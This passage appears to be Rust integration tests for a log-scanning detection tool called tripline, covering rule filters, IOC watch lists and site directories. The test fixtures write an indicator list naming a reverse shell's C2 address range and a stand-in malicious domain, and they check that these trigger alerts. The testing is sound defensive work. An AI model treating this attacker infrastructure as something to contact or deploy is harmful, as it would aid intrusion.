    // A filter of a rule that does not exist stops the scan before any input is read.
    let dir = std::env::temp_dir().join(format!("tripline-filters-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let text_of = std::fs::read_to_string(
        repo().join("examples/site/filters/allow_keytap_productivity_apps.yml"),
    )
    .unwrap()
    .replace(
        "- osquery_keyboard_event_tap ",
        "- osquery_keyboard_event_tapp ",
    );
    std::fs::write(dir.join("allow_keytap_productivity_apps.yml"), text_of).unwrap();
    let out = scan(&["--filters", dir.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains("allow_keytap_productivity_apps.yml:24")
            && err.contains("no rule named \"osquery_keyboard_event_tapp\""),
        "{err}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `--iocs DIR`: the sample attacks' addresses and domains on a watch list fire
/// osquery_ioc_match; a broken list is a usage error naming its file and line.
#[test]
fn scan_with_ioc_lists() {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("scan-iocs");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("advisory.txt"),
        "# the reverse shell's C2 network\n45.61.137.0/24  # C2 range\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("feed.csv"),
        "type,value,name\ndomain,example.net,Dropper\n",
    )
    .unwrap();
    let dir_arg = dir.display().to_string();
    let logs = [
        "events/osquery/attack-linux.ndjson",
        "events/osquery/renamed-fleet.ndjson",
    ];
    let out = tripline(&[
        "scan", logs[0], logs[1], "--format", "ndjson", "--iocs", &dir_arg,
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let fired = alerts(&out);
    let hits: Vec<&Value> = fired
        .iter()
        .filter(|a| a["rule"]["name"] == "osquery_ioc_match")
        .collect();
    let ioc = |a: &Value| a["samples"][0]["derived"]["ioc"].clone();
    assert!(
        hits.iter().any(|a| ioc(a)["value"] == "45.61.137.12"
            && ioc(a)["indicator"] == "45.61.137.0/24"
            && ioc(a)["list"] == "advisory"
            && ioc(a)["name"] == "C2 range"),
        "{hits:?}"
    );
    assert!(
        hits.iter()
            .any(|a| ioc(a)["value"] == "evil.example.net" && ioc(a)["list"] == "feed"),
        "{hits:?}"
    );
    let err = text(&out.stderr);
    assert!(
        err.contains("tripline scan: iocs: entries=2 lists=2"),
        "{err}"
    );
    // Without the lists the rule stays silent.
    let out = tripline(&["scan", logs[0], logs[1], "--format", "ndjson"]);
    assert!(alerts(&out)
        .iter()
        .all(|a| a["rule"]["name"] != "osquery_ioc_match"));

    std::fs::write(dir.join("feed.csv"), "type,value\nip,evil.example.net\n").unwrap();
    let out = tripline(&["scan", logs[0], "--iocs", &dir_arg]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("feed.csv:2: type ip: \"evil.example.net\" is not an IP address or CIDR"),
        "{}",
        text(&out.stderr)
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `--site DIR` is the directory whole: its rules, filter, lists and settings apply, `rules
/// check` loads all of it, and a part given as well is refused rather than ignored.
#[test]
fn a_site_directory_whole() {
    let out = tripline(&["rules", "check", "--site", "examples/site"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("site: tripline.toml OK"),
        "{}",
        text(&out.stdout)
    );
    let out = tripline(&["rules", "test", "--site", "examples/site"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = tripline(&[
        "scan",
        "--site",
        "examples/site",
        "events/osquery",
        "--format",
        "ndjson",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let rules: Vec<String> = alerts(&out)
        .iter()
        .map(|a| a["rule"]["name"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        rules.iter().any(|r| r == "osquery_ioc_match"),
        "the site's list: {rules:?}"
    );
    assert!(
        text(&out.stderr).contains("iocs: entries=2"),
        "{}",
        text(&out.stderr)
    );
    let both = tripline(&[
        "scan",
        "--site",
        "examples/site",
        "--iocs",
        "examples/site/iocs",
        "events/osquery",
    ]);
    assert_eq!(both.status.code(), Some(2));
    assert!(
        text(&both.stderr).contains("--iocs"),
        "{}",
        text(&both.stderr)
    );
}
